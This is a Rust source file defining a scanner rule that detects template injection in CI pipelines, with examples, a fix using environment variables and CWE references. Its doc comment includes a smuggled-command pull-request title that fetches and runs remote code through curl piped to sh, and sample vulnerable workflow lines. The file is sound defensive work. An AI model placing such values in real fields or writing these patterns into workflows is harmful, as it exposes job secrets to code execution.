//! `pipeline/template-injection`: text from outside filled into code.

use bartizan_core::{Severity, atlas, cwe, rule};

rule! {
    /// ## What it finds
    /// An expression that the CI system or workflow engine fills into a script before it runs: `${{
    /// github.event.issue.title }}` in `run`, `{{inputs.parameters.x}}` in a script template, `eval
    /// "$CI_COMMIT_MESSAGE"`, a macro `$(System.PullRequest.SourceBranch)`. Graded by who can choose the value. So are messages of
    /// commits, branches and texts of pull requests that a pipeline hands to a shell: `git log --format=%B | xargs -I{} sh -c "echo {}"`.
    ///
    /// In Airflow's operators: `dag_run.conf`, `params` and XComs in commands and statements.
    /// ## Why it matters
    /// The value becomes part of the program. A pull request titled `"; curl x | sh #` runs with the job's secrets.
    /// ## Example
    /// `run: echo "${{ github.event.pull_request.title }}"`
    /// ## How to fix
    /// Set `env: TITLE: ${{ github.event.pull_request.title }}` on the step and write `echo "$TITLE"`.
    /// ## References
    /// - <https://docs.github.com/en/actions/concepts/security/script-injections>
    /// - CWE-94; CWE-78
    pub const TEMPLATE_INJECTION: Rule = Rule {
        id: "pipeline/template-injection",
        title: "text from outside filled into code",
        severity: Severity::High,
        remedy: "Hand the value over in an environment variable and quote it: `env: TITLE: ${{ … }}`, `\"$TITLE\"`.",
        taxonomies: &[cwe(94), cwe(78), atlas("AML.T0011")],
    };
}
